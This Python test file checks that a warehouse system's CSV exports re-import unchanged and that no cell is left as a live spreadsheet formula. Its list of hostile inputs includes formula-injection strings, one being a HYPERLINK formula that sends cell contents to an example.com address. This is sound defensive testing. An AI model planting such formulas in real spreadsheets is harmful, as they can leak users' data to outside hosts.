"""Tests of round trips: `wmsd import` accepts what `wmsd export` writes, into the same company and
into a new one.
"""

import csv
import io
import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.command import KINDS, Home, Tenant
from tests.support.steering import CountedIds, SteeredClock
from tests.support.thorough import IS_THOROUGH
from wmsd.contract.context import PROGRAM
from wmsd.contract.csv_cells import NUMBER, unguarded, write_cell
from wmsd.db.engine.sqlite import connect, sqlite3
from wmsd.db.engine.transaction import Provision, Transaction
from wmsd.db.migrations import COMPANY, create_file
from wmsd.imports import file_kinds
from wmsd.warehouse.articles.tracking_rules import Obstacles
from wmsd.warehouse.contributions import OBSTACLES

NASTY = (
    "0012",
    "1e5",
    "5E-3",
    "24E-1",
    "1E+12",
    "'1E+12",
    "-1E+12",
    "'400001",
    '="00123"',
    "a;1E+12",
    "a,b",
    "a;b",
    'say "hi"',
    '"',
    "'quoted'",
    "=1+1",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("https://example.com/?"&A1,"Apple")',
    "x;=1+1",
    "\uff1d1+1",
    "@SUM(A1)",
    "+40 700",
    "-5",
    "[1]",
    '["a"]',
    "Țăran Ăîâș",
    "日本語",
    "👩‍👩‍👧",
    "e\u0301",
    "true",
    "null",
    "#N/A",
    "a\u00a0b",
    "a  b",
    "\\n",
    "%s{}",
    "﷽" * 60,
)
TEXTS = ('line\nbreak, "quoted"; and\ttab', "\n", " ", "\n\nlast\n", ";", ",", '"', "a\u2028b")


def table(columns: list[str], rows: list[list[str]]) -> str:
    file = io.StringIO()
    csv.writer(file, lineterminator="\n").writerows([columns, *(map(write_cell, row) for row in rows)])
    return file.getvalue()


def filled(tenant: Tenant) -> Tenant:
    """Fill a company with difficult texts in every column that can hold them."""
    contact = ["code", "name", "tax_id", "phone", "address.street", "address.city", "address.country"]
    people = [[text] * len(contact) for text in NASTY]
    for kind in ("clients", "partners"):
        assert tenant.take(kind, table(contact, people)) == (len(NASTY), 0, 0)
    houses = [[text, text, text] for text in NASTY]
    tenant.take("warehouses", table(["code", "name", "address.postal_code"], houses))
    columns = ["code", "name", "unit", "description", "barcode", "barcodes", "external_ref", "client_code"]
    articles = [
        [text, text, text, TEXTS[place % len(TEXTS)], text, json.dumps([text, *NASTY[:place]]), text, text]
        for place, text in enumerate(NASTY)
        if text not in NASTY[:place]
    ]
    for place, article in enumerate(articles):
        article[5] = json.dumps(list(dict.fromkeys(json.loads(article[5]))) if place % 3 else [])
    assert tenant.take("articles", table(columns, articles)) == (len(NASTY), 0, 0)
    numbers = [["N1", "Numbers", "0.000001", "999999999.999999", "0", "12.5", "7", "true", "false"]]
    measures = ["um3pl_factor", "min_stock", "weight_kg", "length_mm", "over_receipt_pct", "track_lot", "active"]
    tenant.take("articles", table(["code", "name", *measures], numbers))
    stock = [[text, house, f"{place}.{place:06}"] for place, text in enumerate(NASTY) for house in NASTY[place:]]
    tenant.take("stock", table(["article_code", "warehouse_code", "quantity"], stock))
    tenant.take("packaging-types", table(["code", "name"], [[text, text] for text in NASTY]))
    columns = ["code", "packaging_type_code", "partner_code", "direction", "quantity", "notes"]
    movements = [
        [text, NASTY[place // 2], NASTY[place // 3], ("IN", "OUT")[place % 2], f"{place}.000001", text]
        for place, text in enumerate(NASTY)
    ]
    assert tenant.take("packaging-movements", table(columns, movements)) == (len(NASTY), 0, 0)
    return tenant


@pytest.fixture(scope="module")
def full(shared: Home) -> Tenant:
    shared.ok("company", "create", "FULL", "--name", "Full", "--all-modules")
    return filled(Tenant(shared, "FULL"))


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_changes_nothing_where_it_came_from(full: Tenant, kind: str) -> None:
    exported = full.export(kind)
    rows = full.rows(kind)
    assert len(rows) >= len(NASTY)
    assert full.take(kind, exported) == (0, 0, len(rows))
    assert full.export(kind) == exported


def test_exports_make_a_new_company_the_same(full: Tenant, tenant: Tenant) -> None:
    for kind in KINDS:
        tenant.take(kind, full.export(kind))
    for kind in KINDS:
        assert tenant.export(kind) == full.export(kind)


def test_the_same_movements_make_the_same_balances(full: Tenant, tenant: Tenant) -> None:
    for kind in ("partners", "packaging-types", "packaging-movements"):
        tenant.take(kind, full.export(kind))
    assert packaging_balances(tenant) == packaging_balances(full)


def packaging_balances(tenant: Tenant) -> dict[tuple[str, str], float]:
    arguments = ("packaging", "balances", "--company", tenant.code, "--per-page", "200", "--json")
    balances = {(each["type"], each["partner"]): each["quantity"] for each in tenant.home.ok(*arguments).json}
    assert len(balances) >= len(NASTY) // 2
    return balances


def test_an_export_may_come_back_from_a_spreadsheet(full: Tenant, tenant: Tenant) -> None:
    """An export can be imported after a spreadsheet has saved it with its delimiter, mark and line ends."""
    for kind in KINDS:
        rows = list(csv.reader(io.StringIO(full.export(kind), newline="")))
        file = io.StringIO()
        csv.writer(file, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
        tenant.take(kind, "\ufeff" + file.getvalue().replace("\r\n", "\n").replace("\n", "\r\n"))
    assert [tenant.export(kind) for kind in KINDS] == [full.export(kind) for kind in KINDS]


def test_everything_arrives_as_it_was_sent(full: Tenant) -> None:
    articles = {row["code"]: row for row in full.rows("articles")}
    assert set(articles) == {*NASTY, "N1"}
    for text in NASTY:
        row = articles[text]
        assert (row["name"], row["barcode"], row["external_ref"], row["client_code"]) == (text, text, text, text)
    assert [row["description"] for row in full.rows("articles")][: len(TEXTS)] == list(TEXTS)
    assert [row["address.city"] for row in full.rows("clients")] == list(NASTY)


@pytest.mark.parametrize("kind", KINDS)
def test_a_spreadsheet_finds_no_formula_in_an_export(full: Tenant, kind: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(full.export(kind), newline="")) for cell in row]
    assert "'=1+1" in cells
    parts = [part for cell in cells for part in cell.split(";") if not NUMBER.fullmatch(part)]
    assert [part for part in parts if part.startswith(("=", "+", "-", "@", "\uff1d"))] == []


@pytest.mark.parametrize("kind", KINDS)
def test_an_empty_company_exports_its_columns(tenant: Tenant, kind: str) -> None:
    exported = tenant.export(kind)
    assert exported == ",".join(file_kinds.KINDS[kind].columns) + "\n"
    assert tenant.take(kind, exported) == (0, 0, 0)


plain = st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")) | st.sampled_from(",;\"'[]=+-@| ")
visible = st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp")) | st.sampled_from(",;\"'[]=+-@| ")
labels = st.text(visible, min_size=1, max_size=12).map(str.strip).filter(bool)
descriptions = st.text(plain | st.sampled_from("\n\t"), min_size=1, max_size=30)
amounts = st.integers(0, 10**15 - 1)
ARTICLES = st.fixed_dictionaries(
    {"code": labels, "name": labels},
    optional={
        "unit": labels,
        "description": descriptions,
        "barcode": labels,
        "barcodes": st.lists(labels, unique=True, max_size=4),
        "um3pl_factor": st.integers(1, 10**15 - 1),
        "min_stock": amounts,
        "weight_kg": amounts,
        "track_lot": st.booleans(),
        "external_ref": labels,
    },
)


def written(value: Any) -> str:
    """Return a field's value as a person would write it. A list is JSON."""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int):
        return f"{Decimal(value).scaleb(-6):f}"
    return json.dumps(value) if isinstance(value, list) else str(value)


@pytest.fixture(scope="module")
def connection(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sqlite3.Connection]:
    path: Path = tmp_path_factory.mktemp("file") / "1.db"
    create_file(path, COMPANY)
    opened = connect(path)
    yield opened
    opened.close()


@settings(max_examples=400 if IS_THOROUGH else 75, deadline=None)
@given(st.lists(ARTICLES, min_size=1, max_size=4, unique_by=lambda article: article["code"]))
def test_any_article_comes_back(connection: sqlite3.Connection, articles: list[dict[str, Any]]) -> None:
    references: set[str] = set()
    for article in articles:
        if article.get("external_ref") in references:
            del article["external_ref"]
        references |= {article["external_ref"]} if "external_ref" in article else set()
    columns = list(file_kinds.KINDS["articles"].columns)
    rows = [[written(article[name]) if name in article else "" for name in columns] for article in articles]
    first = exported(connection, table(columns, rows))
    assert exported(connection, first) == first
    for article, row in zip(articles, csv.DictReader(io.StringIO(first, newline="")), strict=True):
        for name, value in article.items():
            cell = unguarded(row[name])
            if isinstance(value, list):
                assert (json.loads(cell) if cell.startswith("[") else cell.split(";") if cell else []) == value
            elif isinstance(value, int) and not isinstance(value, bool):
                assert Decimal(cell) == Decimal(value).scaleb(-6)
            else:
                assert cell == written(value)


def exported(connection: sqlite3.Connection, content: str) -> str:
    """Return what an empty company exports after it imported this file. Afterwards the company is empty again."""
    clock = SteeredClock()
    connection.execute("BEGIN")
    try:
        given: Provision = {Obstacles: OBSTACLES}
        tx = Transaction(connection, clock.now(), clock.now(), CountedIds(), PROGRAM, given)
        file_kinds.import_csv(tx, file_kinds.KINDS["articles"], io.StringIO(content, newline=""))
        file = io.StringIO()
        file_kinds.export_csv(tx, file_kinds.KINDS["articles"], file)
        return file.getvalue()
    finally:
        connection.execute("ROLLBACK")
